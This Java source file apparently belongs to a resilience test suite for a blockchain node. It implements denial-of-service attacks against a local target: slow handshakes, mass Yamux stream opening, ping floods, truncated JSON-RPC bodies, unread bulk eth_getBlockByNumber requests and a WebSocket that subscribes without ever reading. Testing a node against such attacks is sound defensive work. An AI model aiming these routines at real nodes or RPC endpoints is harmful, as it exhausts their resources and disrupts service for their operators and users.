package org.poai.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;

import io.netty.buffer.ByteBufUtil;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import org.poai.libp2p.transport.RawPeer;

/** Attacks of bare sockets, before any handshake or below it, and of clients of JSON-RPC. */
public final class SocketAttacks {
  private static final int SOCKETS = 8;
  private static final int STREAMS = 2_000;
  private static final String PING = "000200010000000000000007";

  private SocketAttacks() {}

  private static Socket connect(int port) throws IOException {
    Socket socket = new Socket();
    socket.setReceiveBufferSize(64 << 10);
    socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 2_000);
    return socket;
  }

  private static int p2pPort(Target target) {
    return target.address().tcpAddress().orElseThrow().getPort();
  }

  /** Connects to the port of peers, and says a byte a second of a handshake, or nothing. */
  public static void dawdle(Target target, Siege siege) throws Exception {
    List<Socket> sockets = new ArrayList<>();
    byte[] hello = "\u0013/multistream/1.0.0\n\u0007/noise\n".getBytes(US_ASCII);
    try {
      for (int i = 0; i < SOCKETS; i++) {
        sockets.add(connect(p2pPort(target)));
      }
      for (int at = 0; at < hello.length && !siege.isOverIn(1_000); at++) {
        for (int i = 0; i < SOCKETS; i += 2) {
          sockets.get(i).getOutputStream().write(hello, at, 1);
        }
      }
    } finally {
      close(sockets);
    }
  }

  private static void close(List<Socket> sockets) throws IOException {
    for (Socket socket : sockets) {
      socket.close();
    }
  }

  /** Opens two thousand streams of Yamux at once, and again, after it has reset them. */
  public static void rawStreams(Target target, Siege siege) throws Exception {
    try (RawPeer peer = new RawPeer(target.address())) {
      for (int round = 0; !peer.isClosedWithin(0) && !siege.isOverIn(100); round++) {
        StringBuilder frames = new StringBuilder();
        for (int i = 0; i < STREAMS; i++) {
          int id = 2 * (round * STREAMS + i) + 1;
          frames.append(String.format(java.util.Locale.ROOT, "00010001%08x00000000", id));
          if (i % 2 == 0) {
            frames.append(String.format(java.util.Locale.ROOT, "00010008%08x00000000", id));
          }
        }
        peer.write(ByteBufUtil.decodeHexDump(frames));
      }
    }
  }

  /** Pings and never reads an answer. */
  public static void rawPings(Target target, Siege siege) throws Exception {
    byte[] many = ByteBufUtil.decodeHexDump(PING.repeat(2_000));
    try (RawPeer peer = new RawPeer(target.address())) {
      peer.deafen();
      while (!peer.isClosedWithin(0) && !siege.isOverIn(50)) {
        peer.write(many);
      }
    }
  }

  private static byte[] head(int length) {
    return ("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            + "Content-Length: "
            + length
            + "\r\n\r\n")
        .getBytes(US_ASCII);
  }

  /**
   * Bodies of JSON-RPC of 5 MB that lack their last byte, on some connections; others say nothing.
   */
  public static void halfBodies(Target target, Siege siege) throws Exception {
    List<Socket> sockets = new ArrayList<>();
    byte[] most = new byte[4_999_999];
    java.util.Arrays.fill(most, (byte) ' ');
    try {
      for (int i = 0; i < SOCKETS; i++) {
        Socket socket = connect(target.rpcPort());
        sockets.add(socket);
        if (i % 2 == 0) {
          socket.getOutputStream().write(head(5_000_000));
          socket.getOutputStream().write(most);
        }
      }
      var unused = siege.isOverIn(30_000);
    } finally {
      close(sockets);
    }
  }

  /** Asks for the largest answers, many times on a connection, and does not read them. */
  public static void unreadAnswers(Target target, Siege siege) throws Exception {
    byte[] body =
        ("["
                + "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"eth_getBlockByNumber\","
                    .concat("\"params\":[\"0x5\",true]},")
                    .repeat(20)
                + "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"eth_chainId\"}]")
            .getBytes(US_ASCII);
    try (Socket socket = connect(target.rpcPort())) {
      OutputStream out = socket.getOutputStream();
      while (!siege.isOverIn(100)) {
        out.write(head(body.length));
        out.write(body);
      }
    }
  }

  /** A WebSocket that opens subscriptions and filters and asks on and on, and never reads. */
  public static void deafWebSocket(Target target, Siege siege) throws Exception {
    try (Socket socket = connect(target.rpcPort())) {
      OutputStream out = socket.getOutputStream();
      out.write(
          String.join(
                  "\r\n",
                  "GET / HTTP/1.1",
                  "Host: localhost",
                  "Upgrade: websocket",
                  "Connection: Upgrade",
                  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
                  "Sec-WebSocket-Version: 13",
                  "",
                  "")
              .getBytes(US_ASCII));
      List<byte[]> requests =
          List.of(
              request("eth_subscribe", "[\"newHeads\"]"),
              request("eth_subscribe", "[\"newPendingTransactions\",true]"),
              request("eth_newBlockFilter", "[]"),
              request("eth_newFilter", "[{}]"),
              request("eth_getBlockByNumber", "[\"0x5\",true]"));
      for (int i = 0; !siege.isOverIn(5); i++) {
        out.write(requests.get(i % requests.size()));
      }
    }
  }

  /** A text frame under a mask of zeros. */
  private static byte[] request(String method, String params) {
    byte[] text =
        ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"" + method + "\",\"params\":" + params + "}")
            .getBytes(US_ASCII);
    byte[] frame = new byte[6 + text.length];
    frame[0] = (byte) 0x81;
    frame[1] = (byte) (0x80 | text.length);
    System.arraycopy(text, 0, frame, 6, text.length);
    return frame;
  }
}
